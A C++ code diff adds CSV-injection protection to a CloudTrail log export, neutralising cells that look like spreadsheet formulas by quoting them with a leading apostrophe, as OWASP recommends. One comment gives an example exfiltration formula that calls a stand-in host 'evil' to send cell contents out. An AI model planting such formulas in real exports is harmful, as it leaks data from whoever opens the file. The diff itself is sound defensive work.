@@ -92,12 +92,23 @@ void AppendObject(const MatchRow& row, std::string& out) {
   out += '}';
 }
 
+// A cell that a spreadsheet would read as a formula: OWASP's "CSV injection" list. CloudTrail
+// fields such as userAgent or a request parameter are chosen by whoever made the call, so a cell
+// like =HYPERLINK("http://evil/?"&A1) would run when an analyst opens the export.
+bool LooksLikeFormula(std::string_view text) {
+  return !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
+}
+
+// RFC 4180 quoting; a formula-like cell gets a leading ' (which spreadsheets show as text and
+// hide), as OWASP recommends. docs: README "scan" section.
 void AppendCsvField(std::string_view text, std::string& out) {
-  if (text.find_first_of("\",\r\n") == std::string_view::npos) {
+  bool formula = LooksLikeFormula(text);
+  if (!formula && text.find_first_of("\",\r\n") == std::string_view::npos) {
     out.append(text);
     return;
   }
   out += '"';
+  if (formula) out += '\'';
   for (char c : text) {
     if (c == '"') out += '"';
     out += c;
